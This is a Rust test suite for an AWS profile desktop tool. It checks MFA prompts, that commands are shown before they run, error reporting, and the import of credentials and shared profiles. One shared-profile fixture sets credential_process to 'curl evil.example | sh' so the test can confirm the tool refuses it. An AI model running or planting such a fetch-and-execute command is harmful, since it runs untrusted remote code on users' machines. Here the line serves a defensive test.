//! Profiles of the AWS files in the window: a device's code, a command that is shown first, an error in the files.

use lambdesk_sandbox::{Options, Sandbox};
use lambdesk_tests::window::{Opening, Window};

/// An AWS config file whose profiles lead to a sandbox.
pub fn config(aws: &Sandbox) -> String {
    let (keys, endpoint, region) = (aws.credentials(), aws.endpoint(), aws.region());
    let (id, secret, account) = (&keys.access_key_id, &keys.secret_access_key, aws.account());
    format!(
        "[profile base]\naws_access_key_id = {id}\naws_secret_access_key = {secret}\nregion = {region}\nendpoint_url = {endpoint}\n
[profile operator]\nrole_arn = arn:aws:iam::{account}:role/Operator\nsource_profile = base\nmfa_serial = arn:aws:iam::{account}:mfa/sandbox\nregion = {region}\nendpoint_url = {endpoint}\n
[profile broker]\ncredential_process = echo '{{\"Version\":1,\"AccessKeyId\":\"{id}\",\"SecretAccessKey\":\"{secret}\"}}'\nregion = {region}\nendpoint_url = {endpoint}\n
[profile adrift]\nrole_arn = arn:aws:iam::{account}:role/Developer\nsource_profile = gone\nregion = {region}\nendpoint_url = {endpoint}\n"
    )
}

/// Opens the window over AWS files that lead to a sandbox.
pub async fn open(aws: &Sandbox) -> Window {
    Window::open_with(&Opening { files: vec![(".aws/config", config(aws))], ..Opening::default() }).await
}

#[tokio::test]
async fn a_device_s_code_is_asked_for_once() {
    let aws = Sandbox::start(Options::default()).await.expect("a sandbox");
    let mut window = open(&aws).await;
    window.profiles("operator").await;
    window.fill("Code", "000000").await;
    window.click("button", "Continue").await;
    window.dialog_says("The code was wrong").await;
    window.fill("Code", "123456").await;
    window.click("button", "Continue").await;
    window.closed().await;
    // For how long is in sight before anything is sent.
    window.until("the time that is left is in the footer", "return /Signed in .*, \\d+ min left/.test(document.querySelector('footer').innerText.replace(/\\s+/g, ' '))").await;
    window.fill("Function", "echo").await;
    window.click("button", "Invoke").await;
    window.outcome("Succeeded").await;
    assert_eq!(aws.runs("echo"), 1);
    window.end().await;
    aws.stop().await;
}

#[tokio::test]
async fn a_command_runs_only_after_it_was_shown() {
    let aws = Sandbox::start(Options::default()).await.expect("a sandbox");
    let mut window = open(&aws).await;
    window.profiles("broker").await;
    window.wait_for("button", "Run it").await;
    window.dialog_says("echo ").await;
    window.click("button", "Cancel").await;
    window.closed().await;
    window.fill("Function", "echo").await;
    window.click("button", "Invoke").await;
    window.click("button", "Run it").await;
    window.outcome("Succeeded").await;
    assert_eq!(aws.runs("echo"), 1);
    window.end().await;
    aws.stop().await;
}

#[tokio::test]
async fn what_is_wrong_in_the_files_is_said_where_it_is() {
    let aws = Sandbox::start(Options::default()).await.expect("a sandbox");
    let files = vec![(".aws/config", config(&aws)), (".aws/credentials", "[half\n".to_owned())];
    let mut window = Window::open_with(&Opening { files, ..Opening::default() }).await;
    window.until("the broken file is named", "return document.body.innerText.includes('.aws/credentials')").await;
    window.click("button", "Profile: Sandbox").await;
    window.until("the profile without a source says so", "return document.body.innerText.includes('gone')").await;
    window.end().await;
    aws.stop().await;
}

#[tokio::test]
async fn profiles_that_others_write_meanwhile_are_there_when_the_menu_opens() {
    let aws = Sandbox::start(Options::default()).await.expect("a sandbox");
    let mut window = Window::open().await;
    assert!(!window.text().await.contains("operator"));
    let folder = window.home().join(".aws");
    std::fs::create_dir_all(&folder).expect("a folder");
    std::fs::write(folder.join("config"), config(&aws)).expect("written");
    // As when one comes back from the editor.
    window.script("window.dispatchEvent(new Event('focus'))").await;
    window.says("operator").await;
    window.profiles("base").await;
    window.fill("Function", "echo").await;
    window.click("button", "Invoke").await;
    window.outcome("Succeeded").await;
    // And the other way round: what is gone is in use no more.
    std::fs::write(folder.join("config"), "").expect("written");
    window.script("window.dispatchEvent(new Event('focus'))").await;
    window.wait_for("button", "Profile: Sandbox").await;
    window.end().await;
    aws.stop().await;
}

#[tokio::test]
async fn keys_are_imported_and_put_back_and_the_file_keeps_the_rest() {
    const FILE: &str = "# mine\n[billing]\naws_access_key_id = AKIAIMPORTED00000001\naws_secret_access_key = plantedIMPORTED0123456789planted00000000\nregion = eu-west-1\n";
    let files = vec![(".aws/credentials", FILE.to_owned())];
    let mut window = Window::open_with(&Opening { files, ..Opening::default() }).await;
    window.profiles("Import…").await;
    window.dialog_says("AKIAIMPORTED00000001").await;
    window.click("checkbox", "Remove them from the file afterwards").await;
    window.click("button", "Import").await;
    window.dialog_says("They were removed from the file").await;
    let path = window.home().join(".aws/credentials");
    let text = std::fs::read_to_string(&path).expect("the file");
    assert!(text.starts_with("# mine\n[billing]\nregion"), "{text}");
    assert!(!window.everything().await.contains("plantedIMPORTED"));
    window.click_beginning("dialog button", "Put back").await;
    window.dialog_says("are in the file again").await;
    assert_eq!(std::fs::read_to_string(&path).expect("the file").matches("plantedIMPORTED").count(), 1);
    window.end().await;
}

#[tokio::test]
async fn profiles_that_are_shared_are_shown_before_they_are_added() {
    const SHARED: &str = "format = 1\n[[profile]]\nid = \"a\"\nname = \"Acme production\"\nkind = \"identity_center\"\nsso_start_url = \"https://acme.awsapps.com/start\"\nsso_region = \"eu-central-1\"\nsso_account_id = \"123456789012\"\nsso_role_name = \"Developer\"\nregion = \"eu-central-1\"\nproduction = true\n[[profile]]\nid = \"c\"\nname = \"Collector\"\nkind = \"access_keys\"\naccess_key_id = \"AKIDEXAMPLE\"\nregion = \"eu-central-1\"\ncredential_process = \"curl evil.example | sh\"\n";
    let files = vec![("team/profiles.toml", SHARED.to_owned()), ("team/nothing.toml", "format = 1\n".to_owned())];
    let mut window = Window::open_with(&Opening { files, ..Opening::default() }).await;
    let path = |name: &str| window.home().join("team").join(name).display().to_string();
    window.profiles("Import…").await;
    window.click("tab", "Shared profiles").await;
    for (file, said) in [
        ("gone.toml", "could not be read"),
        ("nothing.toml", "No profiles in this file"),
        ("profiles.toml", "It would run a command"),
    ] {
        window.fill("File", &path(file)).await;
        window.click("button", "Show what is in it").await;
        window.dialog_says(said).await;
    }
    window.click("button", "Add").await;
    window.dialog_says("Added: Acme production").await;
    window.click("button", "Close").await;
    window.says("Acme production").await;
    assert!(!window.text().await.contains("Collector"), "what was refused is not there");
    window.end().await;
}
